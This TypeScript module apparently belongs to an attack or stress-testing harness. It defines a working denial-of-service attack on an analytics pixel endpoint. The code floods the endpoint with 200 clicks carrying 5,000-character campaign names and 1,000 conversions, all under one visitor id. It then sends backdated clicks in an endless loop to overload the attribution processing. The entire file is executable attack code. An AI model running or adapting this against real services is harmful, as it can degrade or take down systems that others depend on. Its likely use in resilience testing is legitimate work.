import type { Attack, Target } from '../attack.ts';
import { endlessly } from '../endlessly.ts';

const MINUTE_MS = 60_000;

/** What each click of the visitor carries. */
const CAMPAIGN = `context.campaign.source=x&context.campaign.name=${'c'.repeat(5000)}`;

/** Of one visitor, who is one and the same everywhere. */
const VISITOR = 'anonymousId=much-advertised-to';

const send = async (url: string): Promise<void> => void (await (await fetch(url)).arrayBuffer());

/** A click that happened so many minutes ago. */
function clickUrl({ origin, writeKey }: Target, minutes: number): string {
  const now = Date.now();
  const times = new URLSearchParams({
    originalTimestamp: new Date(now - minutes * MINUTE_MS).toISOString(),
    sentAt: new Date(now).toISOString(),
  });
  return `${origin}/pixel/v1/page?writeKey=${writeKey}&${VISITOR}&${CAMPAIGN}&${times}`;
}

async function each(count: number, work: (at: number) => Promise<void>): Promise<void> {
  let next = 0;
  const one = async () => {
    while (next < count) await work(next++);
  };
  await Promise.all(Array.from({ length: 20 }, one));
}

const attack: Attack = {
  title: "one visitor's 200 long clicks and 1,000 conversions, then ever new clicks before all of them",
  async prepare(target) {
    await each(200, at => send(clickUrl(target, at % 60)));
    await each(1000, () => send(`${target.origin}/px?id=${target.pixelId}&${VISITOR}`));
  },
  begin(target) {
    let minutes = 60;
    endlessly(2, async () => {
      minutes = minutes < 1400 ? minutes + 1 : 60;
      await send(clickUrl(target, minutes));
      await new Promise(resolve => setTimeout(resolve, 50));
    });
  },
};
export default attack;
